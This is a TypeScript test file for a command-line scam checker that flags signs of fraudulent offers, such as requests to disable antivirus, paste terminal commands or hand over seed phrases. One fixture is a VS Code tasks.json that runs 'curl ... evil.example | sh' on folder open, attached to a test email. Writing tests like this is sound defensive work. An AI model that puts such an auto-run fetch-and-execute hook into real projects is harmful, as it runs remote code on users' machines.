import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { haetae, testFolder } from '../testing/command-line.ts';

const { path: dir, file } = testFolder();

const checkOffer = (...args: string[]) => haetae(['check', 'offer', ...args]);

type Answer = {
  signals: { rule: string; weight: number; text: string; source: string; question: string }[];
  advice: string[];
};

test('an honest invitation: exit 0, no signal, and still advice', async () => {
  const { code, stdout } = await checkOffer(
    file('honest.txt', 'Please pick a time: https://calendly.com/example/intro'),
    '--json',
  );
  const { signals, advice } = JSON.parse(stdout) as Answer;
  assert.deepEqual([code, signals], [0, []]);
  assert.match(advice.join(), /not a proof/);
});

test('a false offer: exit 1, each signal with weight, source and question', async () => {
  const { code, stdout } = await checkOffer(
    file('false.txt', '백신을 잠시 꺼 주세요. Paste this into the terminal.'),
    '--json',
  );
  const { signals, advice } = JSON.parse(stdout) as Answer;
  assert.equal(code, 1);
  assert.deepEqual(
    signals.map(({ rule, weight }) => [rule, weight]),
    [
      ['switch-off-protection', 3],
      ['paste-a-command', 3],
    ],
  );
  for (const { text, source, question } of signals) assert.ok(text && source && question);
  assert.match(advice[0] ?? '', /Stop here/);
});

const TASKS = JSON.stringify({
  version: '2.0.0',
  tasks: [
    {
      label: 'env',
      type: 'shell',
      command: 'curl -s https://evil.example/x | sh',
      runOptions: { runOn: 'folderOpen' },
    },
  ],
});

/** A tar archive of one file (POSIX ustar: a block of 512 bytes before the content, two empty ones at the end). */
function tar(name: string, content: string): Uint8Array {
  const header = Buffer.alloc(512);
  const size = content.length.toString(8).padStart(11, '0');
  header.write(name);
  header.write(`0000644\0${'0000000\0'.repeat(2)}${size}\0${'0'.repeat(11)}\0${' '.repeat(8)}0`, 100);
  header.write('ustar\x0000', 257);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512 + 1024);
  body.write(content);
  return Buffer.concat([header, body]);
}

function mailWith(name: string, content: Uint8Array): string {
  const part = `--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${Buffer.from(content).toString('base64')}\r\n--b--\r\n`;
  return `From: a@example.com\r\nTo: b@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n${part}`;
}

test('a mail with code attached, plain or in an archive: what the scan finds is a signal', async () => {
  const archive = gzipSync(tar('app/.vscode/tasks.json', TASKS));
  for (const eml of [mailWith('.vscode/tasks.json', Buffer.from(TASKS)), mailWith('app.zip', archive)]) {
    const { code, stdout } = await checkOffer(file('task.eml', eml), '--json');
    const { signals } = JSON.parse(stdout) as Answer;
    assert.equal(code, 1, stdout);
    assert.ok(
      signals.some(({ rule }) => rule === 'hostile-attachment' || rule === 'doubtful-attachment'),
      stdout,
    );
  }
});

test('for a person: the signals, what to ask, what to do', async () => {
  const { code, stdout } = await checkOffer(
    file('false2.txt', 'Send me your seed phrase, put your private key in .env'),
  );
  assert.equal(code, 1);
  assert.match(stdout, /recovery phrase or private key is asked for[\s\S]*→[\s\S]*1\. Stop here/);
});

test('in Korean: the same signals in Korean words', async () => {
  const { stdout } = await checkOffer(file('false3.txt', '백신을 잠시 꺼 주세요.'), '--lang', 'ko');
  assert.match(stdout, /공개된 목록의 징후 1개[\s\S]*강함[\s\S]*1\. 여기에서 멈추세요/);
});

test('what is no offer: exit 2, one document on standard error, nothing on standard output', async () => {
  const program = file('program', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0xff]));
  const huge = file('huge.txt', 'a'.repeat(50_000_000));
  for (const path of [
    program,
    huge,
    join(dir, 'absent'),
    dir,
    file('broken.json', '{"messages": ['),
    file('empty', ''),
  ]) {
    const { code, stdout, stderr } = await checkOffer(path, '--json');
    assert.deepEqual([code, stdout], [2, ''], path);
    assert.ok((JSON.parse(stderr) as { code: string }).code);
  }
});
